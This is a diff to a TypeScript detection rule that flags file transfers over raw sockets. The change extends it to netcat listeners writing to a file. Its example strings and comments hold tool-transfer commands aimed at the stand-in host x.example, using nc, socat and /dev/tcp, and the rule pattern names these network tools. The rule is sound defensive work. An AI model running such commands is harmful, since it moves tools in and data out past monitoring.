@@ -407,7 +407,7 @@ export const EXFIL_RULES: Rule[] = [
     category: 'exfiltration',
     action: 'record',
     attack: 'T1105',
-    description: 'A file received from or sent to another host over a raw TCP/UDP socket, outside any download or copy tool: nc/ncat/socat/telnet output into a file, socat … open:FILE, reading /dev/tcp/HOST/PORT into a file or a substitution.',
+    description: 'A file received from or sent to another host over a raw TCP/UDP socket, outside any download or copy tool: nc/ncat/socat/telnet output into a file (a listener\'s too), socat … open:FILE, reading /dev/tcp/HOST/PORT into a file or a substitution.',
     help: 'Raw sockets move tools in and data out past proxies and logs. Check the host and the file.',
     examples: {
       match: ['nc x.example 12345 > /tmp/tool', 'socat -u tcp-connect:x.example:12345 open:/tmp/f,creat', "bash -c 'echo \"$(</dev/tcp/x.example/12345)\" > /tmp/f'"],
@@ -417,6 +417,8 @@ export const EXFIL_RULES: Rule[] = [
       command: (c) => {
         const toFile = c.redirects.some((r) => /^1?(?:>|>>)$/.test(r.op) && r.target && !r.target.startsWith('/dev/'));
         if (/^(?:nc|ncat|netcat|telnet)$/.test(c.name)) {
+          // a listener writing what it receives into a file (`nc -l -p 12345 > tool`)
+          if (toFile && c.argv.slice(1).some((a) => /^-[a-zA-Z]*l/.test(a) || a === '--listen')) return true;
           const host = c.argv.slice(1).find((a) => !a.startsWith('-') && !/^\d+$/.test(a));
           return toFile && host !== undefined && !isLoopbackHost(host.toLowerCase()) && !c.argv.some((a) => /^-[a-zA-Z]*z/.test(a));
         }
